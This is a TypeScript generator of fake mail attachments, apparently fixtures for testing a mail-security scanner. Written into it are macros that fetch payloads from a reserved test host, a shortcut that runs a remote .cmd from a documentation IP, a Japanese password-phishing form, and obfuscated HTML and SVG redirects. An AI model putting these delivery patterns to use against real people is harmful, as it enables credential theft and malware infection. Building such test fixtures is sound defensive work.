/**
 * Attachments from small descriptions: real files as far as a static look can tell, and harmless.
 * Programs hold no code, macros name only hosts under reserved domains.
 */
import { zipSync } from 'fflate';
import { archive, diskImage, type Member } from './containers.ts';
import { encryptedOffice, legacyWorkbook, office, vbaProject } from './office.ts';
import { picture, printedPage, qrPicture } from './pages.ts';

/** One attachment of a mail; besides name, type, cid and password, one key: the recipe. */
export interface Recipe {
  /** File name in the mail; each recipe has a plain one of its own. */
  readonly name?: string;
  /** Declared Content-Type, where it lies or is unusual. */
  readonly type?: string;
  /** Content-ID of a picture that stands in the text. */
  readonly cid?: string;
  readonly zip?: readonly string[];
  readonly zip_encrypted?: readonly string[];
  /** Of an encrypted zip, where the mail tells it. */
  readonly password?: string;
  readonly html_form?: { readonly action: string; readonly title: string; readonly asks: string };
  readonly html_redirect?: string;
  readonly html_page?: string;
  readonly svg_script?: string;
  readonly docx?: readonly string[];
  readonly xlsx?: readonly string[];
  readonly docm?: { readonly lines: readonly string[]; readonly fetches: string };
  /** Without `fetches` the macro only adds up cells, and only when it is called. */
  readonly xlsm?: { readonly lines: readonly string[]; readonly fetches?: string };
  readonly xls_macro?: { readonly fetches: string };
  readonly office_encrypted?: boolean;
  readonly pdf?: { readonly lines: readonly string[]; readonly links?: readonly string[]; readonly qr?: string };
  readonly png_qr?: string;
  readonly png?: { readonly width: number; readonly height: number };
  readonly exe?: boolean;
  readonly iso?: readonly string[];
  readonly lnk?: string;
  readonly onenote?: string;
  readonly script?: string;
  readonly text?: string;
  readonly ics?: string;
  readonly eml?: string;
}

export interface MadeFile {
  readonly name: string;
  readonly type: string;
  readonly bytes: Uint8Array;
}

const utf8 = (text: string): Uint8Array => Buffer.from(text, 'utf8');

/** A Windows program without code: DOS header, PE signature, x86-64 machine, no sections. */
export function program(): Uint8Array {
  const bytes = Buffer.alloc(1024);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x8664, 0x84);
  bytes.writeUInt16LE(0xf0, 0x94);
  bytes.writeUInt16LE(0x22, 0x96);
  bytes.writeUInt16LE(0x20b, 0x98);
  return bytes;
}

/** A shell link (MS-SHLLINK 2.1): header and arguments string. */
export function shortcut(argument: string): Uint8Array {
  const header = Buffer.alloc(0x4c);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  header.writeUInt32LE(0x20 | 0x80, 0x14);
  header.writeUInt32LE(0x20, 0x18);
  header.writeUInt32LE(1, 0x3c);
  const size = Buffer.alloc(2);
  size.writeUInt16LE(argument.length);
  return Buffer.concat([header, size, Buffer.from(argument, 'utf16le'), Buffer.alloc(4)]);
}

/** A OneNote section file's first page: its GUID, then a page that holds a file data store with the given script. */
function notebook(script: string): Uint8Array {
  const head = Buffer.alloc(1024);
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(head, 0);
  const store = Buffer.alloc(36);
  Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(store, 0);
  store.writeUInt32LE(script.length, 16);
  return Buffer.concat([head, store, utf8(script), Buffer.from('22a7fb71790f0a4abb13899256426b24', 'hex')]);
}

/** The bytes a file of this name would have: for members of archives and images. */
function plain(name: string): Uint8Array {
  const extension = name.slice(name.lastIndexOf('.') + 1).toLowerCase();
  const lines = [name.slice(0, name.lastIndexOf('.')), '1', '2'];
  if (extension === 'xlsx') return office('xlsx', lines);
  if (extension === 'docx') return office('docx', lines);
  if (extension === 'docm') return office('docm', lines, vbaProject('http://dl.xk-trade.test/a.bin'));
  if (extension === 'xlsm') return office('xlsm', lines, vbaProject('http://dl.xk-trade.test/b.bin'));
  if (extension === 'xls') return legacyWorkbook('http://dl.xk-trade.test/c.bin');
  if (extension === 'exe' || extension === 'scr') return program();
  if (extension === 'lnk') return shortcut('/c start \\\\203.0.113.66\\s\\x.cmd');
  if (extension === 'js') return utf8('var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c echo " + WScript.ScriptName);');
  if (extension === 'vbs') return utf8('CreateObject("WScript.Shell").Run "cmd /c echo 1"');
  if (extension === 'zip') return zipSync({ 'readme.txt': utf8(name) });
  if (extension === 'pdf') return Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1');
  return utf8(`${name}\r\n`);
}

const members = (names: readonly string[]): Member[] => names.map((name) => ({ name, bytes: plain(name) }));

function formPage(form: { action: string; title: string; asks: string }): string {
  return `<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>${form.title}</title></head>
<body><h2>${form.title}</h2>
<form method="post" action="${form.action}">
<p>${form.asks}</p>
<input type="email" name="u" placeholder="メールアドレス"><input type="password" name="p" placeholder="パスワード">
<button type="submit">続ける</button></form></body></html>
`;
}

const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/**
 * The file a recipe describes. `names` says how member names stand in archives: cp932 as Windows writes them, or UTF-8.
 * Throws when the recipe is unknown.
 */
export async function make(recipe: Recipe, names: 'cp932' | 'utf-8'): Promise<MadeFile> {
  const file = (name: string, type: string, bytes: Uint8Array): MadeFile => ({ name: recipe.name ?? name, type: recipe.type ?? type, bytes });
  if (recipe.zip) return file('files.zip', 'application/zip', archive(members(recipe.zip), { names }));
  if (recipe.zip_encrypted) return file('files.zip', 'application/x-zip-compressed', archive(members(recipe.zip_encrypted), { names, password: recipe.password ?? 'Kj8-2261' }));
  if (recipe.html_form) return file('form.html', 'text/html', utf8(formPage(recipe.html_form)));
  if (recipe.html_redirect) return file('open.html', 'text/html', utf8(`<html><body><script>var p=atob("${Buffer.from(recipe.html_redirect).toString('base64')}");window.location.href=p;</script></body></html>\n`));
  if (recipe.html_page) return file('page.html', 'text/html', utf8(`<!DOCTYPE html><html lang="ja"><meta charset="utf-8"><body>${recipe.html_page}</body></html>\n`));
  if (recipe.svg_script) return file('image.svg', 'image/svg+xml', utf8(`<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><script>window.location="${recipe.svg_script}"</script></svg>\n`));
  if (recipe.docx) return file('document.docx', docx, office('docx', recipe.docx));
  if (recipe.xlsx) return file('book.xlsx', xlsx, office('xlsx', recipe.xlsx));
  if (recipe.docm) return file('document.docm', 'application/vnd.ms-word.document.macroEnabled.12', office('docm', recipe.docm.lines, vbaProject(recipe.docm.fetches)));
  if (recipe.xlsm) return file('book.xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12', office('xlsm', recipe.xlsm.lines, vbaProject(recipe.xlsm.fetches)));
  if (recipe.xls_macro) return file('book.xls', 'application/vnd.ms-excel', legacyWorkbook(recipe.xls_macro.fetches));
  if (recipe.office_encrypted) return file('document.docx', docx, encryptedOffice());
  if (recipe.pdf) return file('document.pdf', 'application/pdf', await printedPage(recipe.pdf));
  if (recipe.png_qr) return file('qr.png', 'image/png', await qrPicture(recipe.png_qr));
  if (recipe.png) return file('image.png', 'image/png', picture(recipe.png.width, recipe.png.height));
  if (recipe.exe) return file('setup.exe', 'application/octet-stream', program());
  if (recipe.iso) return file('disc.iso', 'application/octet-stream', diskImage(members(recipe.iso)));
  if (recipe.lnk) return file('document.lnk', 'application/octet-stream', shortcut(recipe.lnk));
  if (recipe.onenote) return file('notes.one', 'application/onenote', notebook(recipe.onenote));
  if (recipe.script) return file('document.js', 'application/javascript', utf8(recipe.script));
  if (recipe.text) return file('note.txt', 'text/plain', utf8(recipe.text));
  if (recipe.ics) return file('invite.ics', 'text/calendar; method=REQUEST; charset=UTF-8', utf8(recipe.ics.replace(/\r?\n/g, '\r\n')));
  if (recipe.eml) return file('original.eml', 'message/rfc822', utf8(recipe.eml.replace(/\r?\n/g, '\r\n')));
  throw new Error(`unknown recipe: ${Object.keys(recipe).join(', ')}`);
}
